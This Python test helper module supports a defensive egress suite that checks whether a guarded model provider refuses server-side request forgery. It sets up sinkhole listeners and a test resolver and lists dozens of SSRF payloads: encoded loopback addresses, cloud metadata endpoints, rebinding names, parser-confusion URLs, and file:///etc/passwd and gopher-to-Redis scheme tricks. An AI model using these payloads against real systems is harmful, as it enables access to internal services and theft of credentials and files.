"""What the egress suite shares: sinkhole listeners, a spy on every outbound connect,
a test resolver, the SSRF payloads, and a credential store and a guarded worker
provider built the way the services build theirs (reference §10.5)."""

from __future__ import annotations

import asyncio
import base64
import contextlib
import ipaddress
import os
import socket
import ssl
from collections.abc import AsyncIterator, Sequence
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

from airuntime_common.db import make_engine, make_sessionmaker
from airuntime_common.egress import EgressPolicy, parse_cidrs
from credential_service import migrate
from credential_service.domain import CredentialStore
from credential_service.settings import CredentialSettings
from credential_service.vault import Keyring
from runtime_worker.egress import GuardedProvider
from runtime_worker.prompts import RenderedPrompt, render_prompt
from runtime_worker.providers import deepseek
from runtime_worker.providers.base import ModelRequest
from runtime_worker.providers.deepseek import DeepSeekProvider
from runtime_worker.snapshot import validate_snapshot
from tests.unit.runtime_worker.rw_helpers import snapshot_payload

#: The user's key in these tests; the stand-ins record only its mask.
USER_KEY = "sk-user-egress-key-0123456789abcd"
PLATFORM_KEY = "sk-platform-egress-key-0000000009"
#: A globally routable address (documentation is not: this is example.com's).
PUBLIC_V4 = "93.184.216.34"


# ------------------------------------------------------------------------- sinkholes


@dataclass
class Sinkhole:
    """A TCP listener on 127.0.0.1 and [::1] (one port) that records every connection
    and closes it at once: a request forger's target that must never be reached.

    Attributes:
        port: the port it listens on, on both addresses.
        hits: the peers that connected.
    """

    port: int = 0
    hits: list[Any] = field(default_factory=list)
    _servers: list[asyncio.Server] = field(default_factory=list)

    async def start(self, hosts: Sequence[str] = ("127.0.0.1", "::1")) -> Sinkhole:
        for _ in range(20):  # the same free port on every host
            try:
                for host in hosts:
                    server = await asyncio.start_server(self._hit, host, self.port)
                    self._servers.append(server)
                    self.port = server.sockets[0].getsockname()[1]
                return self
            except OSError:
                await self.stop()
                self.port = 0
        raise RuntimeError("no port free on every sinkhole host")

    async def _hit(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        self.hits.append(writer.get_extra_info("peername"))
        writer.close()

    async def stop(self) -> None:
        for server in self._servers:
            server.close()
            await server.wait_closed()
        self._servers.clear()


@contextlib.asynccontextmanager
async def sinkhole(hosts: Sequence[str] = ("127.0.0.1", "::1")) -> AsyncIterator[Sinkhole]:
    """A started :class:`Sinkhole`, stopped after."""
    hole = await Sinkhole().start(hosts)
    try:
        yield hole
    finally:
        await hole.stop()


# --------------------------------------------------------------------- connect spy


def this_host(host: str) -> bool:
    """Loopback or unspecified (which reaches this host's listeners), mapped or not."""
    ip = ipaddress.ip_address(host.split("%", 1)[0])
    if isinstance(ip, ipaddress.IPv6Address) and ip.ipv4_mapped is not None:
        ip = ip.ipv4_mapped
    return ip.is_loopback or ip.is_unspecified


@dataclass
class ConnectSpy:
    """Every outbound connect the HTTP client starts (aiohttp connects through
    ``aiohappyeyeballs.start_connection``): where it went. A connect to this host
    (loopback, unspecified) goes through, so a payload that got past the rules reaches
    its sinkhole; any other fails with OSError, so a test never reaches the network (a
    metadata address, a private range) even when it fails."""

    attempts: list[tuple[str, int]] = field(default_factory=list)


# -------------------------------------------------------------------------- resolver


class Names:
    """A test resolver: names from a table (changeable between calls), anything else as
    the system resolver reads it (numeric notations, ``localhost``); counts lookups."""

    def __init__(self, table: dict[str, list[str]] | None = None) -> None:
        self.table: dict[str, list[str]] = dict(table or {})
        self.lookups: list[str] = []

    async def __call__(self, host: str, port: int) -> Sequence[str]:
        self.lookups.append(host)
        if host in self.table:
            return list(self.table[host])
        loop = asyncio.get_running_loop()
        infos = await loop.getaddrinfo(host, port, type=socket.SOCK_STREAM)
        return [str(info[4][0]) for info in infos]


# ---------------------------------------------------------------------------- payloads


@dataclass(frozen=True)
class Payload:
    """One SSRF attempt: a base URL (``{port}``: its sinkhole's port) and the rule
    that must refuse it (any of ``rules``), from a public list.

    Attributes:
        label: short name (the test id).
        url: the base URL template.
        rules: the rules allowed to refuse it (``details.rule``).
        source: where the trick comes from (PayloadsAllTheThings' SSRF page "PATT",
            HackTricks' URL format bypasses "HT", a cloud's metadata docs "cloud").
    """

    label: str
    url: str
    rules: frozenset[str]
    source: str

    def at(self, port: int) -> str:
        return self.url.replace("{port}", str(port))


def _p(label: str, url: str, rules: str, source: str) -> Payload:
    return Payload(label, url, frozenset(rules.split("|")), source)


#: Names the test resolver answers, as a wildcard DNS service or an attacker's zone would.
NAMES: dict[str, list[str]] = {
    "127.0.0.1.nip.io": ["127.0.0.1"],
    "localtest.me": ["127.0.0.1"],
    "spoofed.burpcollaborator.net": ["127.0.0.1"],
    "169.254.169.254.nip.io": ["169.254.169.254"],
    "metadata.google.internal": ["169.254.169.254"],
    "metadata.azure.internal": ["169.254.169.254"],
    "localhost.": ["127.0.0.1"],
    "v6loop.attacker.test": ["::1"],
    "mixed.attacker.test": [PUBLIC_V4, "127.0.0.1"],
    "a.0177.0.0.1.attacker.test": ["127.0.0.1"],
    "public.example.com": [PUBLIC_V4],
}

PAYLOADS: tuple[Payload, ...] = (
    # IPv4 notations of loopback (PATT "Bypass using decimal/octal/hex IP location", HT)
    _p("loopback", "https://127.0.0.1:{port}/v1", "address", "PATT"),
    _p("decimal", "https://2130706433:{port}/v1", "address", "PATT"),
    _p("octal-dotted", "https://0177.0.0.1:{port}/v1", "address", "PATT"),
    _p("octal-whole", "https://017700000001:{port}/v1", "address", "HT"),
    _p("octal-padded", "https://00000177.00000000.00000000.00000001:{port}/v1", "address", "HT"),
    _p("hex-dotted", "https://0x7f.0x0.0x0.0x1:{port}/v1", "address", "PATT"),
    _p("hex-whole", "https://0x7f000001:{port}/v1", "address", "PATT"),
    _p("hex-mixed", "https://0x7f.0.0.1:{port}/v1", "address", "HT"),
    _p("short-3", "https://127.0.1:{port}/v1", "address", "PATT"),
    _p("short-2", "https://127.1:{port}/v1", "address", "PATT"),
    _p("mixed-notation", "https://0x7f.1:{port}/v1", "address", "HT"),
    _p("zero-padded", "https://127.000.000.001:{port}/v1", "address", "HT"),
    _p("any-127", "https://127.127.127.127:{port}/v1", "address", "PATT"),
    _p("zero", "https://0:{port}/v1", "address", "PATT"),
    _p("zero-dotted", "https://0.0.0.0:{port}/v1", "address", "PATT"),
    # IPv6 forms (PATT "Bypass using IPv6/IPv4 address embedding", HT)
    _p("v6-loopback", "https://[::1]:{port}/v1", "address", "PATT"),
    _p(
        "v6-loopback-long",
        "https://[0000:0000:0000:0000:0000:0000:0000:0001]:{port}/v1",
        "address",
        "HT",
    ),
    _p("v6-unspecified", "https://[::]:{port}/v1", "address", "PATT"),
    _p("v4-mapped", "https://[::ffff:127.0.0.1]:{port}/v1", "address", "PATT"),
    _p("v4-mapped-hex", "https://[::ffff:7f00:1]:{port}/v1", "address", "HT"),
    _p("v4-mapped-long", "https://[0:0:0:0:0:ffff:127.0.0.1]:{port}/v1", "address", "HT"),
    _p("v4-compatible", "https://[::127.0.0.1]:{port}/v1", "address", "HT"),
    _p("v4-translated", "https://[::ffff:0:127.0.0.1]:{port}/v1", "address", "HT"),
    _p("nat64", "https://[64:ff9b::127.0.0.1]:{port}/v1", "address", "HT"),
    _p("nat64-metadata", "https://[64:ff9b::a9fe:a9fe]:{port}/v1", "address", "HT"),
    _p("nat64-local-use", "https://[64:ff9b:1::7f00:1]:{port}/v1", "address", "HT"),
    _p("6to4", "https://[2002:7f00:1::]:{port}/v1", "address", "HT"),
    _p("6to4-metadata", "https://[2002:a9fe:a9fe::]:{port}/v1", "address", "HT"),
    _p("teredo", "https://[2001:0:4136:e378:8000:63bf:3fff:fdd2]:{port}/v1", "address", "HT"),
    _p("v6-link-local", "https://[fe80::1]:{port}/v1", "address", "PATT"),
    _p("v6-unique-local", "https://[fc00::1]:{port}/v1", "address", "PATT"),
    _p("v6-multicast", "https://[ff02::1]:{port}/v1", "address", "HT"),
    # metadata and private ranges (PATT "SSRF URL for Cloud Instances")
    _p("aws-metadata", "https://169.254.169.254:{port}/latest/meta-data", "address", "cloud"),
    _p("aws-metadata-v6", "https://[fd00:ec2::254]:{port}/latest/meta-data", "address", "cloud"),
    _p("aws-metadata-mapped", "https://[::ffff:169.254.169.254]:{port}/v1", "address", "HT"),
    _p("metadata-decimal", "https://2852039166:{port}/v1", "address", "PATT"),
    _p("ecs-task-metadata", "https://169.254.170.2:{port}/v2", "address", "cloud"),
    _p("alibaba-metadata", "https://100.100.100.200:{port}/latest", "address", "cloud"),
    _p("private-10", "https://10.0.0.1:{port}/v1", "address", "PATT"),
    _p("private-172", "https://172.16.0.1:{port}/v1", "address", "PATT"),
    _p("private-192", "https://192.168.1.1:{port}/v1", "address", "PATT"),
    _p("shared-100-64", "https://100.64.0.1:{port}/v1", "address", "PATT"),
    _p("multicast", "https://224.0.0.1:{port}/v1", "address", "HT"),
    _p("broadcast", "https://255.255.255.255:{port}/v1", "address", "HT"),
    _p("reserved-240", "https://240.0.0.1:{port}/v1", "address", "HT"),
    _p("documentation", "https://192.0.2.1:{port}/v1", "address", "HT"),
    # names (PATT "Bypass using a domain redirecting to localhost", "DNS rebinding")
    _p("localhost", "https://localhost:{port}/v1", "address", "PATT"),
    _p("localhost-dot", "https://localhost.:{port}/v1", "address", "HT"),
    _p("nip-io", "https://127.0.0.1.nip.io:{port}/v1", "address", "PATT"),
    _p("localtest-me", "https://localtest.me:{port}/v1", "address", "PATT"),
    _p("burp-spoofed", "https://spoofed.burpcollaborator.net:{port}/v1", "address", "PATT"),
    _p("nip-io-metadata", "https://169.254.169.254.nip.io:{port}/v1", "address", "PATT"),
    _p(
        "gcp-metadata-name",
        "https://metadata.google.internal:{port}/computeMetadata/v1",
        "address",
        "cloud",
    ),
    _p("azure-metadata-name", "https://metadata.azure.internal:{port}/v1", "address", "cloud"),
    _p("name-to-v6-loopback", "https://v6loop.attacker.test:{port}/v1", "address", "HT"),
    _p("one-bad-address", "https://mixed.attacker.test:{port}/v1", "address", "HT"),
    _p("dotted-name", "https://a.0177.0.0.1.attacker.test:{port}/v1", "address", "HT"),
    _p("unresolvable", "https://nothing-here.invalid:{port}/v1", "unresolvable", "HT"),
    # user info and parser confusion (PATT "Bypass using @", HT "URL format bypass")
    _p("userinfo", "https://evil@127.0.0.1:{port}/v1", "user_info", "PATT"),
    _p(
        "userinfo-public-first",
        "https://public.example.com@127.0.0.1:{port}/v1",
        "user_info",
        "PATT",
    ),
    _p("userinfo-password", "https://user:pass@127.0.0.1:{port}/v1", "user_info", "PATT"),
    _p("backslash", "https://public.example.com\\@127.0.0.1:{port}/v1", "syntax", "HT"),
    _p("fragment-at", "https://public.example.com#@127.0.0.1:{port}/v1", "fragment", "HT"),
    _p("query-at", "https://public.example.com?@127.0.0.1:{port}/v1", "query", "HT"),
    _p("percent-host", "https://%31%32%37.0.0.1:{port}/v1", "syntax", "HT"),
    _p("enclosed-alnum", "https://①②⑦.⓪.⓪.①:{port}/v1", "syntax", "HT"),
    _p("fullwidth", "https://１２７．０．０．１:{port}/v1", "syntax", "HT"),
    _p("crlf", "https://public.example.com/v1\r\nHost: 127.0.0.1:{port}", "syntax", "HT"),
    _p("zone-id", "https://[fe80::1%25lo]:{port}/v1", "syntax", "HT"),
    # odd ports (the public host on ports a request forger likes)
    _p("port-ssh", "https://public.example.com:22/v1", "port", "PATT"),
    _p("port-redis", "https://public.example.com:6379/v1", "port", "PATT"),
    _p("port-memcached", "https://public.example.com:11211/v1", "port", "PATT"),
    _p("port-smtp", "https://public.example.com:25/v1", "port", "PATT"),
    _p("port-out-of-range", "https://public.example.com:65536/v1", "syntax", "HT"),
    # other schemes (PATT "file://", "gopher://", "dict://", "ftp://", "ldap://")
    _p("file", "file:///etc/passwd", "scheme", "PATT"),
    _p("gopher", "gopher://127.0.0.1:{port}/_SLAVEOF%20attacker%206379", "scheme", "PATT"),
    _p("dict", "dict://127.0.0.1:{port}/info", "scheme", "PATT"),
    _p("ftp", "ftp://127.0.0.1:{port}/", "scheme", "PATT"),
    _p("ldap", "ldap://127.0.0.1:{port}/", "scheme", "PATT"),
    _p("sftp", "sftp://127.0.0.1:{port}/", "scheme", "PATT"),
    _p("netdoc", "netdoc:///etc/passwd", "scheme", "PATT"),
    _p("http-public", "http://public.example.com:{port}/v1", "scheme", "HT"),
    _p("http-loopback", "http://127.0.0.1:{port}/v1", "address|scheme", "PATT"),
)


def policy(*ports: int, allow: str = "") -> EgressPolicy:
    """The policy of these tests: the sinkhole ports listed, ``allow`` CIDRs."""
    return EgressPolicy(frozenset(ports), parse_cidrs(allow))


# ------------------------------------------------------------------ the two checkers


def encryption_keys() -> str:
    return f"k1:{base64.b64encode(os.urandom(32)).decode()}"


@contextlib.asynccontextmanager
async def credential_store(
    db_url: str, resolver: Any, keys: str | None = None, **settings: Any
) -> AsyncIterator[CredentialStore]:
    """credential_service's domain on ``db_url`` (migrated), with ``USER_BASE_URLS`` on
    and the given settings, resolving names with ``resolver``."""
    values: dict[str, Any] = {
        "CREDENTIAL_DATABASE_URL": db_url,
        "CREDENTIAL_ENCRYPTION_KEYS": keys or encryption_keys(),
        "USER_BASE_URLS": True,
        "DEEPSEEK_BASE_URL": "http://127.0.0.1:9/standin",
        **settings,
    }
    config = CredentialSettings(**values)
    await migrate.upgrade(config.CREDENTIAL_DATABASE_URL)
    engine = make_engine(config.CREDENTIAL_DATABASE_URL)
    keyring = Keyring.from_env_value(config.CREDENTIAL_ENCRYPTION_KEYS.get_secret_value())
    try:
        yield CredentialStore(make_sessionmaker(engine), keyring, config, resolver=resolver)
    finally:
        await engine.dispose()


def sqlite_url(tmp: Path) -> str:
    return f"sqlite+aiosqlite:///{tmp / 'credentials.db'}"


@contextlib.asynccontextmanager
async def worker_provider(
    rules: EgressPolicy,
    resolver: Any,
    *,
    user_key: bool = True,
    enabled: bool = True,
    ca_file: Path | None = None,
    max_response_bytes: int = 8 * 1024 * 1024,
) -> AsyncIterator[GuardedProvider]:
    """The worker's model provider for a user's base URL: the real DeepSeek provider
    behind the real guard; with ``ca_file`` its TLS trusts that CA only."""
    saved = deepseek._TLS
    if ca_file is not None:
        deepseek._TLS = ssl.create_default_context(cafile=str(ca_file))
    inner = DeepSeekProvider(max_connections=4, max_response_bytes=max_response_bytes)
    try:
        yield GuardedProvider(inner, rules, enabled=enabled, user_key=user_key, resolver=resolver)
    finally:
        await inner.aclose()
        deepseek._TLS = saved


def quiz_prompt() -> RenderedPrompt:
    """A real quiz prompt (the stand-in answers it as DeepSeek would)."""
    snapshot = validate_snapshot(
        snapshot_payload(), schema_version="v1", job_type="quiz_generation"
    )
    return render_prompt("quiz_generation", snapshot, {"count": 2})


def request(base_url: str, key: str = USER_KEY, timeout: float = 10.0) -> ModelRequest:
    """A chat request of a user-key job to ``base_url``."""
    return ModelRequest(
        model="deepseek-chat",
        messages=quiz_prompt().messages,
        max_tokens=64,
        api_key=key,
        base_url=base_url,
        timeout_seconds=timeout,
    )
